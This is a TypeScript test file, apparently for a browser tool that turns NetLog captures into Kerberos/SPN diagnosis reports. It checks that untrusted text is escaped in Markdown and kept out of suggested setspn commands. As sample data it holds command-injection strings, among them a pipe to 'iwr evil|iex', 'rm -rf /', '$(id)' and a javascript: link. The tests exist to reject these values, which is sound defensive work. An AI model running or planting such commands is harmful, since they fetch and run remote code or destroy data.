// Strangers' text stays text where it is rendered: Markdown, commands offered as fixes, the terminal.
import { describe, expect, it } from 'vitest';
import { command, isCommandSafeName, withCommands } from '../../../src/core/diagnosis/advice/command';
import { diagnoseExchange } from '../../../src/core/diagnosis/findings';
import { likelyCause } from '../../../src/core/diagnosis/rank';
import { allDiagnosesMarkdown } from '../../../src/core/report/diagnosis-markdown';
import { markdownCode, markdownText, visibleControls } from '../../../src/core/report/escape';
import { hostileFiles } from '../../helpers/hostile-corpus';
import { importNetLog } from '../../helpers/netlog';

const REPORT = {
  includeIdentities: true,
  includeRawTokens: false,
  browser: 'Chromium 156',
  extensionVersion: '0.2.0',
  generatedAt: '2026-11-29T00:00:00Z',
};

describe('escaping policy', () => {
  it('makes control characters, separators and bidi overrides visible', () => {
    expect(visibleControls('a\nb\r\t\u001b[31m\u0007\u2028\u202eZ')).toBe('a\\nb\\r\\t\\x1b[31m\\x07\\u2028\\u202eZ');
  });

  it('keeps Markdown inline text from becoming links, HTML, emphasis or code, and URLs from autolinking', () => {
    expect(markdownText('[x](javascript:alert(1)) <img src=x> *a* `b` | http://evil.example www.evil.example')).toBe(
      '\\[x\\](javascript:alert(1)) \\<img src=x\\> \\*a\\* \\`b\\` \\| http:\u200b//evil.example www\u200b.evil.example',
    );
  });

  it('fences a code span with more backticks than the text holds', () => {
    expect(markdownCode('HTTP/web')).toBe('`HTTP/web`');
    expect(markdownCode('a`b``c')).toBe('``` a`b``c ```');
    expect(markdownCode('x\n# heading')).toBe('`x\\n# heading`');
  });

  it('offers a command only for names in the strict host / SPN grammar', () => {
    expect(command`setspn -Q ${'HTTP/intranet.corp.example'}`).toBe('setspn -Q HTTP/intranet.corp.example');
    expect(command`setspn -Q HTTP/${'web01'}:${8080}`).toBe('setspn -Q HTTP/web01:8080');
    for (const hostile of ['HTTP/x & iwr evil|iex', 'HTTP/x\n# FIX', 'x;rm -rf /', '$(id)', 'HTTP/`whoami`', 'a"b', 'HTTP/x @evil']) {
      expect(isCommandSafeName(hostile)).toBe(false);
      expect(command`setspn -Q ${hostile}`).toBeNull();
    }
    expect(withCommands(command`setspn -Q ${'HTTP/x|y'}`, 'klist')).toMatchObject({
      commands: ['klist'],
      withheld: expect.stringMatching(/not offered/),
    });
  });
});

describe('a NetLog whose SPN carries a heading, a pipe to iex and a javascript: link', () => {
  const [, text] = hostileFiles().find(([name]) => name === 'netlog-spn-injection.json') as [string, string];
  const exchanges = importNetLog(text).exchanges;

  it('the copied diagnosis keeps it on its line, as text, and in no command', () => {
    const markdown = allDiagnosesMarkdown(exchanges, REPORT);
    const lines = markdown.split('\n');
    // Only the report's own headings start a line with "#": one per exchange and one per cause.
    const causes = new Set(exchanges.map((exchange) => likelyCause(diagnoseExchange(exchange))?.title).filter(Boolean));
    expect(lines.filter((line) => line.startsWith('#'))).toHaveLength(exchanges.length + causes.size);
    expect(lines.filter((line) => line.startsWith('#') && !line.startsWith('## '))).toEqual([]);
    expect(lines.some((line) => line.startsWith('- [click]'))).toBe(false);
    // Outside code spans (inert), a link needs an unescaped "](": there is none.
    expect(markdown.replace(/(`+)[^`]*?\1/g, '')).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(markdown).toContain('HTTP/x\\n# FIX: run iwr');
    const commands = exchanges
      .flatMap((exchange) => diagnoseExchange(exchange))
      .flatMap((finding) => finding.fixes.flatMap((fix) => fix.commands ?? []));
    expect(commands.filter((line) => line.includes('HTTP/x'))).toEqual([]);
  });
});
